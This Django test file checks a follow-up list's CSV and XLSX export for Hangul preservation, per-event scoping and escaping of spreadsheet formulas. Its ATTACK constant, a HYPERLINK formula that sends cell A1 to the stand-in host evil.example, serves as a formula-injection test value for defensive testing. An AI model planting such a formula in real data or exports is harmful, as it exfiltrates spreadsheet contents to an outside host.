"""The follow-up list out of the admin's Export (CSV, XLSX): what goes out reads back as what is stored,
Hangul intact, formulas typed into a name or a note escaped, and only the exporter's events."""
import csv
import io

import openpyxl
import pytest
from django.forms import BooleanField
from django.urls import reverse

from followup import services
from followup.enums import Stage
from followup.models import FollowUp
from tests.accounts import staff_account
from tests.factories import RegistrationFactory, ResearcherFactory
from tests.tables.conftest import make_event

pytestmark = pytest.mark.django_db

EXPORT_URL = reverse("admin:followup_followup_export")
BOM = b"\xef\xbb\xbf"
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


@pytest.fixture
def followed(dinner, organizer):
    """Three follow-ups: one with a Hangul name and two notes, one whose name is a formula, one bare."""
    kim = RegistrationFactory(event=dinner, researcher=ResearcherFactory(
        first_name="Minjun", last_name="Kim", native_name="김민준", affiliation="서울대학교", graduation_year=2028))
    services.add_note(registration_id=kim.pk, text="연구실 방문 희망", user=organizer)
    services.add_note(registration_id=kim.pk, text="=SUM(1,2)\nsecond line", user=organizer)
    services.set_stage(registration_id=kim.pk, stage=Stage.INTERVIEWING, user=organizer)
    attacker = RegistrationFactory(event=dinner, researcher=ResearcherFactory(first_name=ATTACK, lab="@lab"))
    services.set_stage(registration_id=attacker.pk, stage=Stage.NOT_PURSUED)
    FollowUp.objects.create(registration=RegistrationFactory(event=dinner), stage=Stage.HIRED)
    FollowUp.objects.create(registration=RegistrationFactory(event=make_event(researchers=0)), stage=Stage.HIRED)
    return kim, attacker


def stored_keys():
    return ["id", "event", "first_name", "native_name", "affiliation", "lab", "graduation_year", "stage", "company",
            "owner", "notes"]


def export(client, title):
    form = client.get(EXPORT_URL).context["form"]
    format_index = next(value for value, label in form.fields["format"].choices if label == title)
    data = {"format": format_index, "resource": "0"}
    data.update({name: "on" for name, field in form.fields.items() if isinstance(field, BooleanField)})
    return client.post(EXPORT_URL, data)


def stored(follow_up):
    """A follow-up as the export's columns should hold it (formulas with their leading quote)."""
    researcher, event = follow_up.registration.researcher, follow_up.registration.event
    notes = "\n\n".join(f"{event.format_local(n.created_at)} · {n.author_name}: {n.text}"
                        for n in follow_up.notes.order_by("created_at", "pk"))
    return {"id": follow_up.pk, "event": event.slug, "first_name": researcher.first_name,
            "native_name": researcher.native_name, "affiliation": researcher.affiliation, "lab": researcher.lab,
            "graduation_year": researcher.graduation_year, "stage": follow_up.stage,
            "company": follow_up.company.name if follow_up.company_id else None,
            "owner": follow_up.owner.username if follow_up.owner_id else None, "notes": notes}


def expected_rows(dinner):
    rows = []
    for follow_up in FollowUp.objects.filter(registration__event=dinner).order_by("pk"):
        row = stored(follow_up)
        row.update({key: "'" + value for key, value in row.items() if isinstance(value, str)
                    and value.startswith(("=", "@"))})
        rows.append(row)
    return rows


def test_csv_reads_back_as_stored_with_the_byte_order_mark(client, dinner, organizer, followed):
    client.force_login(organizer)

    response = export(client, "csv")

    assert response.content.startswith(BOM)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    read = [{key: (row[key] or None) if key not in ("id", "graduation_year") else
             (int(row[key]) if row[key] else None) for key in stored_keys()} for row in sorted(
        rows, key=lambda r: int(r["id"]))]
    assert read == [{key: value if value != "" else None for key, value in row.items()}
                    for row in expected_rows(dinner)]


def test_xlsx_reads_back_as_stored_with_no_formula_cell(client, dinner, organizer, followed):
    client.force_login(organizer)

    response = export(client, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    rows = sorted(({name: cell.value for name, cell in zip(header, line, strict=True)}
                   for line in sheet.iter_rows(min_row=2)), key=lambda r: r["id"])
    assert [cell.coordinate for line in sheet.iter_rows() for cell in line if cell.data_type == "f"] == []
    assert [{key: row[key] for key in stored_keys()} for row in rows] == [
        {key: value if value != "" else None for key, value in row.items()} for row in expected_rows(dinner)]


def test_the_formula_name_and_note_are_escaped_and_hangul_kept(client, dinner, organizer, followed):
    kim, attacker = followed
    client.force_login(organizer)

    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(export(client, "csv").content.decode("utf-8-sig")))}

    kim_row, attacker_row = rows[kim.follow_up.pk], rows[attacker.follow_up.pk]
    assert (attacker_row["first_name"], attacker_row["lab"]) == ("'" + ATTACK, "'@lab")
    assert (kim_row["native_name"], kim_row["affiliation"]) == ("김민준", "서울대학교")
    assert "연구실 방문 희망" in kim_row["notes"] and "=SUM(1,2)\nsecond line" in kim_row["notes"]
    assert not kim_row["notes"].startswith(("=", "+", "-", "@"))


def test_the_export_holds_only_the_exporters_events(client, dinner, organizer, followed):
    client.force_login(organizer)

    rows = list(csv.DictReader(io.StringIO(export(client, "csv").content.decode("utf-8-sig"))))

    assert {row["event"] for row in rows} == {dinner.slug}
    assert len(rows) == 3


def test_the_list_offers_the_export_and_the_funnel_to_organizers_only(client, dinner, organizer, recruiter):
    pages = {}
    for user in (organizer, recruiter):
        client.force_login(user)
        pages[user.username] = client.get(reverse("admin:followup_followup_changelist")).content.decode()

    assert 'class="export_link"' in pages["organizer"] and 'class="export_link"' not in pages["recruiter"]
    assert all('id="funnel-link"' in page for page in pages.values())


def test_the_export_offers_spreadsheets_only(client, organizer):
    client.force_login(organizer)

    form = client.get(EXPORT_URL).context["form"]

    assert [label for value, label in form.fields["format"].choices if value != ""] == ["csv", "xlsx"]


def test_a_staff_account_of_another_event_exports_nothing_of_this_one(client, dinner, django_user_model, followed):
    other = staff_account(django_user_model, "elsewhere", "Organizer", make_event(researchers=0), is_staff=True)
    client.force_login(other)

    rows = list(csv.DictReader(io.StringIO(export(client, "csv").content.decode("utf-8-sig"))))

    assert {row["event"] for row in rows} <= {other.staffed_events.get().slug}
